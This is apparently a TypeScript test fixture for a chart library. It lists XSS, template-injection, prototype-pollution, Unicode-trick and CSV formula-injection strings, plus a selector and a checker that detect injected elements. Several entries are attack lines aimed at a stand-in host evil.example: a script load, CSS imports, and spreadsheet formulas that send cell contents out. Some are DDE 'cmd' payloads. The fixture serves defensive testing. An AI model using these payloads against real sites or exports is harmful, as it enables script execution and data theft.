/**
 * Hostile strings for escaping tests. Each would run script, inject markup or mislead if a
 * component used innerHTML, an unchecked URL, a template engine or an unguarded CSV export.
 * A handler that runs sets `window.__xss` (tests reset it to 0 and expect it to stay 0).
 *
 * The first 20 are the original corpus (the shared chart tests use the first 12); the rest
 * widen it: event-handler attributes on many tags, `javascript:`/`data:`/`vbscript:` URLs with
 * encoding tricks, entity and comment tricks, mXSS shapes, CSS injection, template-engine
 * syntax, bidi and zero-width characters, very long strings, emoji and CSV formula injection.
 */
const X = 'window.__xss=(window.__xss||0)+1';

export const HOSTILE_STRINGS: readonly string[] = [
  // ---- the original corpus (order kept: other suites slice it) ------------------------------
  `<img src=x onerror="${X}">`,
  `<svg onload="${X}"></svg>`,
  `<script>${X}</script>`,
  '"><img src=x onerror=window.__xss++>',
  "'><svg/onload=window.__xss++>",
  'javascript:window.__xss++',
  'data:text/html,<script>window.__xss++</script>',
  '&lt;img src=x onerror=window.__xss++&gt;',
  '<iframe srcdoc="<script>parent.__xss++</script>">',
  '{{constructor.constructor("window.__xss++")()}}',
  '\u202Eevil\u202C text with RTL override',
  '<a href="javascript:window.__xss++">click</a>',
  '<style>*{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss++>',
  '${window.__xss++}',
  '😀 emoji 👩‍👩‍👧 family',
  'x'.repeat(500),
  '<object data="javascript:window.__xss++"></object>',
  '<details open ontoggle=window.__xss++>',
  '<body onload=window.__xss++>',
  // ---- event handlers on other tags --------------------------------------------------------
  `<video><source onerror="${X}"></video>`,
  `<audio src=x onerror="${X}">`,
  `<input autofocus onfocus="${X}">`,
  `<select autofocus onfocus="${X}"></select>`,
  `<textarea autofocus onfocus="${X}"></textarea>`,
  `<marquee onstart="${X}">scroll</marquee>`,
  `<div onpointerenter="${X}" style="position:fixed;inset:0">cover</div>`,
  `<embed src="javascript:${X}">`,
  `<form><button formaction="javascript:${X}">go</button></form>`,
  `<svg><animate onbegin="${X}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a xlink:href="javascript:${X}"><text x="20" y="20">click</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror="${X}"></foreignObject></svg>`,
  `<svg><script>${X}</script></svg>`,
  `<img src="x" onerror="&#119;indow.__xss=(window.__xss||0)+1">`,
  `<IMG SRC=x OnErRoR=${X}>`,
  `<img/src=x/onerror=${X}>`,
  `<img src=x onerror\u000C=${X}>`,
  // ---- closing the surroundings --------------------------------------------------------------
  `</title><img src=x onerror="${X}">`,
  `</textarea><img src=x onerror="${X}">`,
  `</script><script>${X}</script>`,
  `--><img src=x onerror="${X}"><!--`,
  `<!--<img src="--><img src=x onerror=${X}//">`,
  `]]><img src=x onerror="${X}">`,
  `<![CDATA[<img src=x onerror="${X}">]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<template><img src=x onerror="${X}"></template>`,
  // ---- URLs --------------------------------------------------------------------------------
  'JaVaScRiPt:window.__xss++',
  ' \tjavascript:window.__xss++',
  'java\u0000script:window.__xss++',
  'javas\tcript:window.__xss++',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss++',
  'javascript&colon;window.__xss++',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcysrIi8+',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MrKzwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//evil.example/steal.js',
  'https://evil.example/"onmouseover="window.__xss++',
  // ---- entities and encodings ----------------------------------------------------------------
  '&amp;lt;script&amp;gt;window.__xss++&amp;lt;/script&amp;gt;',
  '&#60;img src=x onerror=window.__xss++&#62;',
  '\\u003cimg src=x onerror=window.__xss++\\u003e',
  '%3Cimg%20src%3Dx%20onerror%3Dwindow.__xss%2B%2B%3E',
  '\uFF1Cimg src=x onerror=window.__xss++\uFF1E',
  // ---- CSS and styling tricks ----------------------------------------------------------------
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  'expression(window.__xss++)',
  '</style><img src=x onerror=window.__xss++>',
  // ---- template engines and prototype keys ---------------------------------------------------
  '<%= window.__xss++ %>',
  '#{window.__xss++}',
  '__proto__',
  'constructor',
  '{"__proto__": {"polluted": true}}',
  // ---- text that misleads rather than runs ---------------------------------------------------
  '\u202Dforced LTR\u202C and \u2067isolate\u2069',
  'zero\u200Bwidth\u200Djoiner\uFEFFbom',
  'line one\nline two\r\nline three',
  '\u0000null byte',
  'Ω≈ç√∫ – café – Ünïcödé – 日本語 – العربية',
  '🏳️‍🌈🧑🏽‍🦽👨‍👩‍👧‍👦'.repeat(20),
  'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳',
  'A'.repeat(100_000),
  // ---- CSV formula injection (a spreadsheet opening the CSV export would run these) ----------
  '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
];

/** Matches anything a hostile string could have injected into a shadow root or a document. */
export const INJECTED_SELECTOR =
  'script, img, iframe, object, embed, video, audio, source, marquee, form, button[formaction], link, style, meta, base, foreignObject, animate, set, noscript, template, [href^="javascript" i], [href^="data" i], [src^="javascript" i], [src^="data" i]';

/** Tags a chart may use for its own controls; a test compares their number with a benign render. */
export const CONTROL_TAGS: readonly string[] = ['button', 'input', 'select', 'textarea', 'option'];

/** Whether an element carries an inline event-handler attribute (`onerror`, `onload`, …). */
export function hasHandlerAttribute(el: Element): boolean {
  for (const attr of Array.from(el.attributes)) if (/^on/i.test(attr.name)) return true;
  return false;
}
